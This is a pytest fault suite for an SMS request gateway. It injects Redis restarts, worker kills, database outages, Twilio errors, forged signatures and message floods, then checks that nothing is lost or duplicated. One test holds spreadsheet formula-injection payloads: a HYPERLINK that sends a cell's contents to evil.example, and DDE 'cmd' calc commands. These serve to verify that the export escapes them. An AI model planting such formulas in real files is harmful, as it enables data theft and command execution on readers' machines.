"""The fault suite: real redis-server, `kontor sandbox`, `kontor web` (gunicorn), `kontor worker` (RQ) and
twilio's REST client against a local stand-in; each fault is injected with real signals and restarts, and the
suite prints fault, trials, confirmed, stored, SMS sent, duplicates, lost — lost and duplicates must be 0."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import requests
from rq.registry import FailedJobRegistry

from sms_gateway.outbox import UNFINISHED
from sms_gateway.procs import wait_until
from sms_gateway.runtime import catalogue
from tests.faults.procs import (
    Ledger,
    PostgresProc,
    RedisProc,
    Row,
    SlowTwilio,
    outcome_sms,
    run_threads,
    statuses,
    table,
    tally,
)
from tests.faults.races import decided_row, deciders, race
from tests.support.stack import ACCOUNT_SID, AUTH_TOKEN, Stack, free_port, set_config, write_config

pytestmark = pytest.mark.faults
CAT = catalogue()
SINGLE = ["1234567804121", "0012345679", "04620", "0", "0", "0"]
ROWS: list[Row] = []


def phones(n: int) -> list[str]:
    base = int(uuid.uuid4().int % 10**6)
    return [f"+98912{(base + i) % 10**6:06d}1"[:13] for i in range(n)]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Stack, RedisProc, SlowTwilio, Ledger]]:
    """Everything the faults need, started once for the module and stopped at its end."""
    folder = tmp_path_factory.mktemp("faults")
    server = RedisProc(folder / "redis", Path("/tmp") / f"kontor-faults-{os.getpid()}.sock").start()
    twilio = SlowTwilio(ACCOUNT_SID, AUTH_TOKEN).start()
    database = f"sqlite:///{folder / 'kontor.db'}"
    port = free_port()
    config = write_config(
        folder, server.url, database, twilio.url, port, limits__per_phone_per_minute=20, limits__inquire_per_hour=10
    )  # the shipped limits
    stack = Stack(config, port, AUTH_TOKEN)
    try:
        stack.start()
        yield stack, server, twilio, Ledger(database, twilio)
    finally:
        if stack.procs:
            stack.stop()
        twilio.stop()
        server.stop()
        server.socket.unlink(missing_ok=True)


@pytest.fixture(scope="module", autouse=True)
def report(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if ROWS:
        text = "\n" + table(ROWS) + "\n"
        capman = request.config.pluginmanager.getplugin("capturemanager")
        with capman.global_and_fixture_disabled():
            print(text, flush=True)
        (Path(__file__).parent.parent.parent / "var").mkdir(exist_ok=True)
        (Path(__file__).parent.parent.parent / "var" / "faults.txt").write_text(text, encoding="utf-8")


def to_confirm(stack: Stack, phone: str) -> None:
    for body in ["READ"] + SINGLE:
        stack.sms(phone, body)


def confirm(stack: Stack, phone: str) -> bool:
    return stack.sms(phone, "1") == [CAT.text("confirmed", "en")]


def settle(ledger: Ledger, group: list[str], expected: int, timeout: float = 60) -> None:
    """Wait (bounded) until every expected request is stored and its SMS sent or closed."""
    wait_until(
        lambda: (
            len(ledger.stored(group)) >= expected
            and sum(s not in UNFINISHED for s in ledger.outbound_status(group).values()) >= expected
        ),
        timeout,
        0.2,
    )


def quiet(ledger: Ledger) -> None:
    """Wait (bounded) until no owed SMS of earlier faults is pending, so an injected error hits this fault."""
    wait_until(lambda: ledger.pending() == 0, 30, 0.2)


def record(row: Row) -> Row:
    ROWS.append(row)
    assert row.lost == 0 and row.duplicates == 0, table([row])
    return row


def test_twilio_500_then_success(world) -> None:
    stack, _, twilio, ledger = world
    group = phones(2)
    for phone in group:
        to_confirm(stack, phone)
    quiet(ledger)
    twilio.fail_next = [500, 500, 503]
    confirmed = sum(confirm(stack, p) for p in group)
    settle(ledger, group, confirmed, 40)
    record(tally(Row("Twilio 5xx, then success", len(group), note="retried with backoff"), ledger, group, confirmed))


def test_twilio_21610_is_recorded_not_retried(world) -> None:
    stack, _, twilio, ledger = world
    group = phones(1)
    to_confirm(stack, group[0])
    quiet(ledger)
    twilio.fail_next = [400]  # the stand-in's 4xx carries code 21610
    confirmed = sum(confirm(stack, p) for p in group)
    settle(ledger, group, confirmed, 30)
    time.sleep(3)  # a retry would have come by now
    assert list(ledger.outbound_status(group).values()) == ["failed"]
    record(
        tally(Row("Twilio 21610 opted out", len(group), note="recorded failed, 1 attempt"), ledger, group, confirmed)
    )


def test_the_same_webhook_twice_concurrently(world) -> None:
    stack, _, _, ledger = world
    group = phones(3)
    answers: list[list[str]] = []
    for phone in group:
        to_confirm(stack, phone)
        sid = "SM" + uuid.uuid4().hex
        run_threads([lambda p=phone, s=sid: answers.append(stack.sms(p, "1", sid=s)) for _ in range(2)])
    confirmed = len(group)
    # handled once: one confirmation per phone; the twin gets the same reply or (the session ended) the menu
    assert sum(a == [CAT.text("confirmed", "en")] for a in answers) >= len(group), answers
    assert all(a in ([CAT.text("confirmed", "en")], [CAT.text("menu", "fa")]) for a in answers), answers
    settle(ledger, group, confirmed)
    record(tally(Row("same webhook twice, concurrently", len(group)), ledger, group, confirmed))


def test_a_flood_from_one_phone(world) -> None:
    stack, _, _, ledger = world
    group = phones(1)
    phone = group[0]
    to_confirm(stack, phone)  # 7 messages
    for _ in range(13):
        stack.sms(phone, "?")  # 20: the per-minute limit
    flood = [stack.sms(phone, "1") for _ in range(30)]
    notices = [r for r in flood if r]
    assert len(notices) <= 1 and all(not r[0].startswith("Received") for r in notices), notices
    time.sleep(2)
    record(tally(Row("flood from one phone (50 SMS)", 1, note=f"{len(notices)} notice, 0 outbound"), ledger, group, 0))


def test_forged_signatures(world) -> None:
    stack, _, _, ledger = world
    group = phones(1)
    phone = group[0]
    to_confirm(stack, phone)
    params = {"From": phone, "To": "+15005550006", "Body": "1", "MessageSid": "SMforged", "NumMedia": "0"}
    elsewhere = stack.sign(params, stack.url.replace("/sms/twilio", "/sms/other"))
    tampered = stack.sign(dict(params, Body="2"))
    codes = [stack.post(params, signature=s).status_code for s in ("", "bm90IGEgc2lnbmF0dXJl", elsewhere, tampered)]
    assert codes == [403, 403, 403, 403]
    time.sleep(2)
    record(tally(Row("forged signatures", 4, note="403, nothing stored"), ledger, group, 0))


# The next two faults run on a stack of their own, on the same redis-server and Twilio stand-in but with
# their own queues, and with retries long enough to outlast a 20 s outage: attempts 1, 3, 7, 15, 23, 31 s
# after the first failure (the shared stack's [1, 1, 2] gives up after 4 s, by design for the other faults).
OUTAGE_RETRIES = [1, 2, 4, 8, 8, 8]


@contextmanager
def side_stack(
    folder: Path, server: RedisProc, twilio: SlowTwilio, database: str, name: str, **overrides: Any
) -> Iterator[Stack]:
    folder.mkdir()
    port = free_port()
    config = write_config(
        folder,
        server.url,
        database,
        twilio.url,
        port,
        worker__queue=f"kontor-{name}",
        worker__retry_intervals=OUTAGE_RETRIES,
        **overrides,
    )
    stack = Stack(config, port, AUTH_TOKEN)
    try:
        stack.start()
        yield stack
    finally:
        if stack.procs:
            stack.stop()


def failures(stack: Stack, exception: str) -> int:
    """Failed job attempts in the worker's whole log: each ends its traceback with a line naming the exception."""
    log = (stack.config.parent / "worker.log").read_text(errors="replace")
    return sum(line.startswith(exception + ":") for line in log.splitlines())


def dead_jobs(server: RedisProc, name: str) -> int:
    """Jobs of this stack that used up their retries (kontor jobs failed would list them)."""
    client = server.client()
    try:
        return sum(
            FailedJobRegistry(name=queue, connection=client).count
            for queue in (f"kontor-{name}", f"kontor-{name}-followup")
        )
    finally:
        client.close()


def healthz(stack: Stack) -> int:
    try:
        return requests.get(f"http://127.0.0.1:{stack.port}/healthz", timeout=5).status_code
    except requests.RequestException:
        return 0


def timed_confirm(stack: Stack, phone: str) -> tuple[bool, float]:
    started = time.monotonic()
    ok = confirm(stack, phone)
    return ok, time.monotonic() - started


def outcomes_note(twilio: SlowTwilio, ledger: Ledger, group: list[str]) -> str:
    # the status is committed before its outcome SMS is sent (and a failed send is retried): wait for the SMS
    wait_until(lambda: all(n >= 1 for n in outcome_sms(twilio, group).values()), 30, 0.2)
    counts = outcome_sms(twilio, group)
    assert all(n == 1 for n in counts.values()), counts  # one outcome SMS each, never two
    assert "received" not in statuses(ledger, group), statuses(ledger, group)
    return f"outcome SMS {sum(counts.values())}/{len(group)}"


def test_database_down_20s(world, tmp_path: Path) -> None:
    """PostgreSQL stopped for 20 s under web and worker: confirms answered, /healthz 503, jobs retried, all done.

    Why not SQLite: web and worker keep their SQLite connections open in SQLAlchemy's pool, so chmod 000 (a
    no-op for root anyway) or moving the file away does not reach them; another process holding SQLite's locks
    only stalls them inside the 30 s busy timeout; and `SELECT 1` on an open SQLite connection never touches
    the file, so /healthz cannot see any of it (see the report). A stopped PostgreSQL is a real outage.
    """
    why = PostgresProc.available()
    if why:
        pytest.skip(f"database-down fault needs a private PostgreSQL: {why}")
    _, server, twilio, _ = world
    pg = PostgresProc(Path("/tmp") / f"kontor-faults-pg-{os.getpid()}")
    try:
        pg.init()
        with side_stack(tmp_path / "db", server, twilio, pg.url, "db") as stack:
            ledger = Ledger(pg.url, twilio)
            group = phones(3)
            for phone in group:
                to_confirm(stack, phone)
            assert healthz(stack) == 200
            pg.stop()
            down = time.monotonic()
            confirmed = [timed_confirm(stack, p) for p in group]  # the confirm only touches Redis
            assert all(ok for ok, _ in confirmed), confirmed
            assert wait_until(lambda: healthz(stack) == 503, 10), "healthz did not report the database down"
            time.sleep(max(0.0, 20 - (time.monotonic() - down)))
            failed = failures(stack, "sqlalchemy.exc.OperationalError")
            pg.start()
            assert wait_until(lambda: healthz(stack) == 200, 15), "healthz did not recover"
            back = time.monotonic()
            settle(ledger, group, len(group), 60)
            settled = time.monotonic() - back
            wait_until(lambda: "received" not in statuses(ledger, group), 30, 0.2)
            row = tally(Row("database down 20 s (PostgreSQL stopped)", len(group)), ledger, group, len(group))
            assert failed > 0, "no job failed while the database was down: the fault did not bite"
            assert dead_jobs(server, "db") == 0
            row.note = (
                f"healthz 503 then 200; {failed} job attempts failed, retried; settled {settled:.0f}s "
                f"after return; {outcomes_note(twilio, ledger, group)}"
            )
            ledger.engine.dispose()
            record(row)
    finally:
        pg.destroy()


def test_outside_systems_down_then_slow(world, tmp_path: Path) -> None:
    """The sandbox (subscriber system, civil registry, mobile ownership) answering 503 to everything, then 2 s
    slow: the webhook's confirm does not wait for it, tracking SMS go out, the follow-up waits and finishes."""
    _, server, twilio, _ = world
    database = f"sqlite:///{tmp_path / 'ox' / 'kontor.db'}"
    # breaker reset shortened so the worker's clients try again soon after the sandbox returns
    with side_stack(tmp_path / "ox", server, twilio, database, "ox", outside_systems__breaker_reset_seconds=3) as stack:
        ledger = Ledger(database, twilio)
        down_group, slow_group = phones(3), phones(2)
        for phone in down_group + slow_group:  # past the bill step (a synchronous lookup)
            to_confirm(stack, phone)

        stack.stop("sandbox")
        set_config(stack.config, sandbox__failure_rate=1.0)
        stack.start("sandbox")
        confirmed = [timed_confirm(stack, p) for p in down_group]
        assert all(ok for ok, _ in confirmed), confirmed
        worst = max(t for _, t in confirmed)
        assert worst < 1.0, confirmed
        settle(ledger, down_group, len(down_group), 30)  # tracking SMS while the sandbox is down
        time.sleep(5)  # the follow-ups fail and are retried
        assert sum(outcome_sms(twilio, down_group).values()) == 0
        assert set(statuses(ledger, down_group)) == {"received"}
        attempts = failures(stack, "adapters.http.OutsideSystemUnavailable")
        stack.stop("sandbox")
        set_config(stack.config, sandbox__failure_rate=0.0)
        stack.start("sandbox")
        back = time.monotonic()
        wait_until(lambda: sum(outcome_sms(twilio, down_group).values()) >= len(down_group), 45, 0.2)
        finished = time.monotonic() - back
        row = tally(
            Row("outside systems down (sandbox 503 to all)", len(down_group)), ledger, down_group, len(down_group)
        )
        assert attempts > 0, "no follow-up failed while the sandbox was down: the fault did not bite"
        assert dead_jobs(server, "ox") == 0
        row.note = (
            f"confirm max {worst * 1000:.0f} ms; {attempts} follow-up attempts failed, retried; "
            f"finished {finished:.0f}s after return; {outcomes_note(twilio, ledger, down_group)}"
        )
        record(row)

        stack.stop("sandbox")
        set_config(stack.config, sandbox__latency_ms=2000)
        stack.start("sandbox")
        confirmed = [timed_confirm(stack, p) for p in slow_group]
        assert all(ok for ok, _ in confirmed), confirmed
        worst = max(t for _, t in confirmed)
        assert worst < 1.0, confirmed
        settle(ledger, slow_group, len(slow_group), 30)
        wait_until(lambda: sum(outcome_sms(twilio, slow_group).values()) >= len(slow_group), 45, 0.2)
        row = tally(
            Row("outside systems slow (sandbox +2000 ms)", len(slow_group)), ledger, slow_group, len(slow_group)
        )
        row.note = f"confirm max {worst * 1000:.0f} ms; {outcomes_note(twilio, ledger, slow_group)}"
        ledger.engine.dispose()
        record(row)


def test_two_deciders_at_once(world, tmp_path: Path) -> None:
    """Two copies of the follow-up of each request racing, on SQLite and (when it can run here) PostgreSQL."""
    stack, _, twilio, _ = world
    sqlite = f"sqlite:///{tmp_path / 'race.db'}"
    group = phones(5)
    with deciders(tmp_path / "sqlite", stack.config, sqlite, twilio.url) as services:
        race(services, group)
        ledger = Ledger(sqlite, twilio)
        record(decided_row("two deciders at once (SQLite)", ledger, group))
        ledger.engine.dispose()
    if PostgresProc.available():
        return
    pg = PostgresProc(Path("/tmp") / f"kontor-faults-race-{os.getpid()}")
    try:
        pg.init()
        group = phones(5)
        with deciders(tmp_path / "pg", stack.config, pg.url, twilio.url) as services:
            race(services, group)
            ledger = Ledger(pg.url, twilio)
            record(decided_row("two deciders at once (PostgreSQL)", ledger, group))
            ledger.engine.dispose()
    finally:
        pg.destroy()


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"bill")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_hostile_export_cells(world) -> None:
    """Formulas written as the description through the real webhook are exported as text, not live formulas."""
    stack, _, _, ledger = world
    group = phones(len(HOSTILE))
    for phone, hostile in zip(group, HOSTILE, strict=True):
        for body in ["READ", *SINGLE[:4], hostile, SINGLE[5]]:
            stack.sms(phone, body)
    confirmed = sum(confirm(stack, p) for p in group)
    settle(ledger, group, confirmed)
    argv = [sys.executable, "-m", "sms_gateway.cli", "requests", "export", "--format", "csv", "--config"]
    out = subprocess.run([*argv, str(stack.config)], capture_output=True, text=True, timeout=60, check=True).stdout
    rows = [r for r in csv.DictReader(io.StringIO(out)) if r["mobile"].lstrip("'") in group]  # the whole number
    cells = [r["description"] for r in rows]
    assert len(cells) == len(HOSTILE) and all(c.startswith("'") and c[1] in "=+@" for c in cells), cells
    row = tally(Row("hostile export cells", len(group)), ledger, group, confirmed)
    row.note = f"{len(cells)} formula descriptions exported with a leading apostrophe"
    record(row)


def test_a_401_from_the_gateway_then_fixed(world, tmp_path: Path) -> None:
    """A rotated token: every send refused 401 / 20003 for 6 s, then accepted; each tracking SMS arrives once."""
    _, server, twilio, _ = world
    database = f"sqlite:///{tmp_path / 'auth' / 'kontor.db'}"
    with side_stack(tmp_path / "auth", server, twilio, database, "auth") as stack:
        ledger = Ledger(database, twilio)
        group = phones(3)
        for phone in group:
            to_confirm(stack, phone)
        twilio.refuse_until = time.monotonic() + 6
        confirmed = sum(confirm(stack, p) for p in group)
        time.sleep(2)
        held = set(ledger.outbound_status(group).values())
        assert "failed" not in held and "sent" not in held, held
        settle(ledger, group, confirmed, 60)
        row = tally(Row("a 401 from the gateway, then fixed", len(group)), ledger, group, confirmed)
        refused = failures(stack, "adapters.senders.AccountError")
        assert refused > 0, "no send was refused: the fault did not bite"
        assert set(ledger.outbound_status(group).values()) == {"sent"}
        row.note = f"held (pending) while refused; {refused} attempts refused, retried; never failed"
        ledger.engine.dispose()
        record(row)


# Near the end on purpose: a Redis restart or a killed worker can leave RQ's retry scheduler idle for up to
# minutes (see the report), so the faults that need quick retries run before them.
def test_redis_restart_mid_dialog(world) -> None:
    stack, server, _, ledger = world
    group = phones(2)
    for phone in group:
        stack.sms(phone, "READ")
        stack.sms(phone, SINGLE[0])
    server.stop()
    during = [stack.sms(p, SINGLE[1]) for p in group]  # Redis down: 200 + "send it again"
    again = {CAT.text("try_again_later", lang) for lang in ("fa", "en")}  # digits only: the default language
    assert all(len(r) == 1 and r[0] in again for r in during), during
    assert requests.get(f"http://127.0.0.1:{stack.port}/healthz", timeout=5).status_code == 503
    server.start()
    for phone in group:  # the session survived (append-only file)
        assert stack.sms(phone, SINGLE[1])[0].startswith("Send the mid-load reading")
        for body in SINGLE[2:]:
            stack.sms(phone, body)
    confirmed = sum(confirm(stack, p) for p in group)  # web and worker reconnected
    settle(ledger, group, confirmed)
    record(
        tally(
            Row("Redis restart mid-dialog", len(group), note="outage answered 200 try-again"), ledger, group, confirmed
        )
    )


# Last on purpose: the killed worker leaves RQ's scheduler lock behind, which delays scheduled retries
# (see the report), so the faults that need retries run before it.
def test_worker_sigkill_mid_job(world) -> None:
    stack, _, twilio, ledger = world
    group = phones(3)
    for phone in group:
        to_confirm(stack, phone)
    twilio.delay = 3.0  # the worker will be inside the send
    confirmed = sum(confirm(stack, p) for p in group)
    assert wait_until(lambda: twilio.inflight > 0, 20)
    os.killpg(stack.procs["worker"].pid, signal.SIGKILL)  # SIGKILL mid-job
    stack.procs.pop("worker").wait(10)
    twilio.delay = 0.0
    restarted = time.monotonic()
    stack.start("worker")
    settle(ledger, group, confirmed, 60)  # the issue: within 60 s of the return
    row = tally(Row("worker SIGKILL mid-job", len(group)), ledger, group, confirmed)
    row.note = f"settled {time.monotonic() - restarted:.0f}s after restart"
    record(row)


def test_crash_between_the_send_and_the_commit(world) -> None:
    """The worker killed right after the gateway accepted, before Kontor recorded it: found there, not resent."""
    stack, _, twilio, ledger = world
    group = phones(2)
    for phone in group:
        to_confirm(stack, phone)
    quiet(ledger)
    killed = threading.Event()

    def kill(message: dict[str, str]) -> None:
        if message["To"] in group and not killed.is_set():
            killed.set()
            os.killpg(stack.procs["worker"].pid, signal.SIGKILL)

    twilio.on_accept = kill
    try:
        confirmed = sum(confirm(stack, p) for p in group)
        assert killed.wait(20), "no tracking SMS reached the gateway"
    finally:
        twilio.on_accept = None
    stack.procs.pop("worker").wait(10)
    restarted = time.monotonic()
    stack.start("worker")
    settle(ledger, group, confirmed, 60)
    row = tally(Row("crash between the send and the commit", len(group)), ledger, group, confirmed)
    log = (stack.config.parent / "worker.log").read_text(errors="replace")
    assert "already accepted by twilio" in log, "the resend was not reconciled with the gateway"
    row.note = f"reconciled by Twilio's message list; settled {time.monotonic() - restarted:.0f}s after restart"
    record(row)
